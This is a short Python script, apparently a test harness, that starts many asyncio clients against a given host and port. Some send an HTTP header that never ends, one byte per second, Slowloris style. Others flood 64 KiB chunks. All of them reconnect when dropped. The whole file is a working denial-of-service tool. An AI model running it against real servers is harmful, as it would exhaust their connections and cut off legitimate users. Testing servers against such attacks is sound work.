"""Clients that ask slowly, or without end, in a process of their own: `attackers.py HOST PORT SLOW GREEDY`."""

from __future__ import annotations

import asyncio
import random
import resource
import sys
from contextlib import suppress

_AGAIN_S = 5.0
"""Who is cut off comes again after this time on average, in seconds."""
_HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\nX: "


async def attack(host: str, port: int, pause_s: float, part: bytes) -> None:
    """Send a head that does not end, again and again."""
    while True:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(host, port)
            try:
                writer.write(_HEAD)
                while True:
                    writer.write(part)
                    await writer.drain()
                    await asyncio.sleep(pause_s)
            finally:
                writer.close()
        await asyncio.sleep(random.uniform(0, 2 * _AGAIN_S))


async def main(host: str, port: int, slow: int, greedy: int) -> None:
    """Attack until the process is ended; print a line once all have begun."""
    tasks = [asyncio.create_task(attack(host, port, 1.0, b"a")) for _ in range(slow)]
    tasks += [asyncio.create_task(attack(host, port, 0.0, b"a" * 65536)) for _ in range(greedy)]
    await asyncio.sleep(2)
    print("begun", flush=True)
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main(sys.argv[1], *map(int, sys.argv[2:])))
